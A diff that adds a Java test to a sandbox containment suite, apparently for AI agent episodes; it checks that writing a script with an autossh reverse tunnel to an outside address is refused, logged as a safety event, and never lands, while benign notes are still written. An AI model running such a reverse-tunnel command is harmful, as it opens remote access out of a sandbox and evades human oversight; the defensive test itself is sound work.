@@ -131,4 +131,19 @@ class GuardedBackendTest {
             assertThat(s.files().list("/workspace")).isNotEmpty();
         }
     }
+
+    @Test
+    void aWrittenScriptOrMinerConfigIsJudgedBeforeItLandsAndTextThatNamesNothingIsWritten() {
+        try (GuardedSandbox s = containment.containment().create(SandboxRequest.of(BLOCK_TUNNELS).forEpisode("ep-3"))) {
+            s.files().write("/workspace/notes.md", "Run the tests with ./run.sh; pools of workers share the queue.\n".getBytes());
+
+            assertThatThrownBy(() -> s.files().write("/workspace/up.sh", "#!/bin/sh\nautossh -M 0 -R 9000:localhost:22 a@203.0.113.9\n".getBytes()))
+                    .hasMessageContaining("write_file /workspace/up.sh refused by rule tunnel.");
+            assertThat(sh(s, "test -e /workspace/up.sh").exitCode()).as("the refused script never landed").isEqualTo(1);
+            assertThat(new String(s.files().read("/workspace/notes.md"))).startsWith("Run the tests");
+            assertThat(s.events()).extracting(SafetyEvent::rule).contains("tunnel.tool.autossh");
+            assertThat(s.events()).filteredOn(e -> e.rule().equals("tunnel.tool.autossh"))
+                    .allSatisfy(e -> assertThat(e.evidence()).containsEntry("file", "/workspace/up.sh"));
+        }
+    }
 }
